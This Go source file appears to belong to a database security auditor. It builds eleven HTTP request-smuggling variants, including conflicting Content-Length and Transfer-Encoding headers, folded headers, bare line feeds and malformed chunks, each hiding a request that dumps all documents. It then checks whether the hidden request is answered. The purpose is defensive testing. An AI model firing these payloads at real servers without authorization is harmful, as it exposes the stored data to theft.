package audit

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
)

// smuggle hides a request for all docs in the body of a write, in ways that make two servers see its end at different places,
// and looks whether anybody answers the hidden one.
func (a *auditor) smuggle(ctx context.Context) Finding {
	f := Finding{Method: http.MethodPost, Path: "/{db}", What: "a request hidden in another's body", Spelling: "smuggled", Verdict: Refused}
	db := a.wire.path("/" + url.PathEscape(a.o.DB))
	hidden := a.wire.text(request{method: http.MethodGet, target: db + "/_all_docs?include_docs=true"})
	for name, text := range a.smuggled(db, hidden) {
		got, err := a.wire.raw(ctx, text, http.MethodPost, 3)
		if err != nil {
			continue // no answer is an answer
		}
		f.Status = got[0].status
		for i, answer := range got {
			if strings.Contains(answer.body, a.canary) || i > 0 && strings.Contains(answer.body, `"rows"`) {
				f.Verdict, f.Detail = Leaked, name
				return f
			}
		}
	}
	return f
}

// smuggled are the forms, by name.
func (a *auditor) smuggled(db, hidden string) map[string]string {
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n", db, a.o.URL.Host)
	length := func(n int) string { return "Content-Length: " + strconv.Itoa(n) + "\r\n" }
	const chunked = "Transfer-Encoding: chunked\r\n"
	doc := fmt.Sprintf(`{"audit":%q}`, a.nonce)
	chunk := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(doc), doc)
	return map[string]string{
		"both lengths, chunked counts":  head + length(len(chunk+hidden)) + chunked + "\r\n" + chunk + hidden,
		"both lengths, the other first": head + chunked + length(len(chunk)) + "\r\n" + chunk + hidden,
		"two lengths":                   head + length(len(doc)) + length(len(doc+hidden)) + "\r\n" + doc + hidden,
		"a length with a sign":          head + "Content-Length: +" + strconv.Itoa(len(doc)) + "\r\n\r\n" + doc + hidden,
		"a blank before the colon":      head + length(len(chunk+hidden)) + "Transfer-Encoding : chunked\r\n\r\n" + chunk + hidden,
		"an unknown coding":             head + length(len(chunk+hidden)) + "Transfer-Encoding: xchunked\r\n\r\n" + chunk + hidden,
		"a folded header":               head + length(len(chunk+hidden)) + "Transfer-Encoding:\r\n chunked\r\n\r\n" + chunk + hidden,
		"bare line feeds":               strings.ReplaceAll(head+length(len(doc)), "\r\n", "\n") + "\n" + doc + hidden,
		"a chunk's size too long":       head + chunked + "\r\n" + "fffffffffffffffff\r\n" + doc + "\r\n0\r\n\r\n" + hidden,
		"a chunk's extension":           head + chunked + "\r\n" + fmt.Sprintf("%x;\n%s\r\n%s\r\n0\r\n\r\n", len(doc), hidden, doc),
		"one behind the other":          head + length(len(doc)) + "\r\n" + doc + hidden,
	}
}
